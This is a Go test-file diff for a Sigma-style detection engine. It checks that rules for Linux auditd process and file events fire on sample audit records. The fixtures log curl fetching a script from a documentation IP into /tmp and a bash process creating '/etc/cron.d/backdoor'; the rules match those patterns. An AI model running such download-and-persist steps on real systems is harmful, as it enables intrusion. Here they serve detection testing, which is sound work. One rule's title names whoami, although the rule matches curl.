@@ -1,6 +1,7 @@
 package detect_test
 
 import (
+	"fmt"
 	"slices"
 	"testing"
 	"time"
@@ -114,5 +115,64 @@ detection:
 		if got := match(tc.tag, tc.line); !slices.Equal(got, tc.want) {
 			t.Errorf("%s: matched %v, want %v", tc.name, got, tc.want)
 		}
+	}
+}
+
+// Linux process-creation and file-event rules fire on auditd records, the
+// EXECVE/PATH record completed by its SYSCALL record.
+func TestMappingLinuxAuditd(t *testing.T) {
+	const rules = `
+title: Whoami with a command line
+id: t-lnx-proc
+logsource: {product: linux, category: process_creation}
+detection:
+    sel:
+        Image|endswith: '/curl'
+        CommandLine|contains: ' -o /tmp/'
+    condition: sel
+---
+title: Cron file created
+id: t-lnx-file
+logsource: {product: linux, category: file_event}
+detection:
+    sel:
+        TargetFilename|startswith: '/etc/cron.d/'
+        Image|endswith: '/bash'
+    condition: sel
+`
+	rs, err := sigma.Parse([]byte(rules), "inline.yml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	eng, problems, err := detect.Compile(rs, detect.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range problems {
+		t.Errorf("rule %s: %s (loaded %v)", p.Rule.Title, p.Reason, p.Loaded)
+	}
+	lines := []string{
+		`type=SYSCALL msg=audit(1736651742.123:8812): arch=c000003e syscall=59 success=yes exit=0 ppid=2211 pid=2290 auid=1001 uid=0 comm="curl" exe="/usr/bin/curl" key="exec"`,
+		`type=EXECVE msg=audit(1736651742.123:8812): argc=4 a0="curl" a1="-s" a2="-o /tmp/x.sh" a3="http://198.51.100.4/x.sh"`,
+		`type=SYSCALL msg=audit(1736651743.000:8820): arch=c000003e syscall=257 success=yes exit=3 ppid=2211 pid=2300 auid=1001 uid=0 comm="bash" exe="/usr/bin/bash" key="cron"`,
+		`type=PATH msg=audit(1736651743.000:8820): item=1 name="/etc/cron.d/backdoor" inode=7 nametype=CREATE`,
+		`type=EXECVE msg=audit(1736651744.000:8830): argc=2 a0="curl" a1="-o /tmp/y"`, // no SYSCALL: no Image
+	}
+	batch := make([]event.Event, len(lines))
+	for i, l := range lines {
+		batch[i] = event.Event{Received: time.Now(), Source: event.Source{Kind: event.KindSyslog}, Message: l,
+			Fields: map[string]string{"log.syslog.priority": "86", "host.name": "srv-db-01", "process.name": "audispd", "message": l}}
+	}
+	normalize.Default().NormalizeBatch(batch)
+	normalize.NewAuditJoin().Apply(batch)
+	m := eng.NewMatcher()
+	var got []string
+	for i := range batch {
+		for _, r := range m.MatchEvent(&batch[i]) {
+			got = append(got, fmt.Sprintf("%d:%s", i, eng.Rules()[r].ID))
+		}
+	}
+	if want := []string{"1:t-lnx-proc", "3:t-lnx-file"}; !slices.Equal(got, want) {
+		t.Errorf("matches %v, want %v", got, want)
 	}
 }
